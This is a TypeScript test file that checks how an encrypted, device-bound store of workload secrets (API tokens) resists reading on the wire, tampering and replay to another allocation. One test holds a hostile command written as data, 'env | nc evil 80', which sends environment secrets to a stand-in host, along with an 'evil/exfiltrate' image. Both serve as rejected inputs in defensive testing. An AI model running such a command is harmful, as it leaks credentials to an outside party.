import { randomUUID } from "node:crypto";
import { describe, expect, it } from "vitest";
import { generateDeviceKey } from "./keys.ts";
import { AgentAssignment, GatewayMessage, parseFrame } from "./messages.ts";
import { openAssignment, openEnv, SealedEnv, SealedEnvError, sealEnv, sealWorkload } from "./sealed-env.ts";

const env = { WANDB_API_KEY: "wandb-secret-0123456789abcdef", HF_TOKEN: "hf_ünïcødé ✓ and \"quotes\"\n" };
const binding = () => ({ deviceId: randomUUID(), allocationId: randomUUID() });

/** The same base64url text with one byte of its decoded value flipped. */
function flipByte(text: string, index: number): string {
  const bytes = Buffer.from(text, "base64url");
  bytes[index]! ^= 0x01;
  return bytes.toString("base64url");
}

describe("env sealed to a device", () => {
  it("opens with the device's own key as the same assignment, and nothing readable is on the wire", () => {
    const device = generateDeviceKey();
    const to = binding();
    const sealed = sealEnv(env, device.publicKey, to);
    expect(SealedEnv.parse(sealed)).toEqual(sealed);
    expect(JSON.stringify(sealed)).not.toContain("wandb-secret");
    expect(openEnv(sealed, device, to)).toEqual(env);
    // A fresh ephemeral key and nonce per seal: the same env twice gives unrelated ciphertexts.
    const again = sealEnv(env, device.publicKey, to);
    expect(again.epk).not.toBe(sealed.epk);
    expect(again.ciphertext).not.toBe(sealed.ciphertext);
  });

  it("another device's key cannot open it", () => {
    const device = generateDeviceKey();
    const to = binding();
    const sealed = sealEnv(env, device.publicKey, to);
    expect(() => openEnv(sealed, generateDeviceKey(), to)).toThrow(SealedEnvError);
  });

  it("a tampered byte anywhere fails: ciphertext, tag, nonce, ephemeral key", () => {
    const device = generateDeviceKey();
    const to = binding();
    const sealed = sealEnv(env, device.publicKey, to);
    const length = Buffer.from(sealed.ciphertext, "base64url").length;
    for (const altered of [
      { ...sealed, ciphertext: flipByte(sealed.ciphertext, 0) },
      { ...sealed, ciphertext: flipByte(sealed.ciphertext, length - 1) },
      { ...sealed, nonce: flipByte(sealed.nonce, 5) },
      { ...sealed, epk: flipByte(sealed.epk, 7) },
      { ...sealed, ciphertext: Buffer.from(sealed.ciphertext, "base64url").subarray(0, length - 1).toString("base64url") },
    ]) {
      expect(() => openEnv(altered, device, to)).toThrow(SealedEnvError);
    }
    expect(openEnv(sealed, device, to)).toEqual(env);
  });

  it("is bound to its device and allocation: the same seal presented as another assignment does not open", () => {
    const device = generateDeviceKey();
    const to = binding();
    const sealed = sealEnv(env, device.publicKey, to);
    expect(() => openEnv(sealed, device, { ...to, allocationId: randomUUID() })).toThrow(SealedEnvError);
    expect(() => openEnv(sealed, device, { ...to, deviceId: randomUUID() })).toThrow(SealedEnvError);
  });
});

describe("a sealed workload in an assignment", () => {
  const assignment = (workload: unknown, to: { deviceId: string; allocationId: string }) => ({
    ...to, clusterId: randomUUID(), clusterType: "CONTAINER", gpuCount: 1,
    startsAt: new Date().toISOString(), endsAt: new Date(Date.now() + 3_600_000).toISOString(), workload,
  });

  it("travels without env values and opens into the workload the runtime runs", () => {
    const device = generateDeviceKey();
    const to = binding();
    const workload = { image: "ghcr.io/acme/train:2", command: ["python", "train.py"], env, ports: [8888] };
    const sent = AgentAssignment.parse(assignment(sealWorkload(workload, device.publicKey, to), to));
    const frame = JSON.stringify({ type: "assign", assignment: sent });
    expect(frame).not.toContain(env.WANDB_API_KEY);
    const received = parseFrame(GatewayMessage, frame);
    expect(received?.type).toBe("assign");
    const opened = openAssignment((received as { assignment: AgentAssignment }).assignment, device);
    expect(opened.workload).toEqual(workload);
    // Swapped onto another allocation by whoever relays it: refused, not run with someone else's secrets.
    expect(() => openAssignment({ ...sent, allocationId: randomUUID() }, device)).toThrow(SealedEnvError);
    // Or kept with its seal while the image or command is swapped: refused too.
    expect(() => openAssignment({ ...sent, workload: { ...sent.workload!, image: "evil/exfiltrate:1" } }, device)).toThrow(SealedEnvError);
    expect(() => openAssignment({ ...sent, workload: { ...sent.workload!, command: ["sh", "-c", "env | nc evil 80"] } }, device)).toThrow(SealedEnvError);
  });

  it("a plaintext env is refused on the wire; a workload without env carries no seal", () => {
    const to = binding();
    expect(AgentAssignment.safeParse(assignment({ image: "ghcr.io/acme/train:2", env }, to)).success).toBe(false);
    const plain = sealWorkload({ image: "ghcr.io/acme/train:2", env: {} }, generateDeviceKey().publicKey, to);
    expect(plain).toEqual({ image: "ghcr.io/acme/train:2" });
    expect(openAssignment(AgentAssignment.parse(assignment(plain, to)), undefined).workload).toEqual({ image: "ghcr.io/acme/train:2" });
  });
});
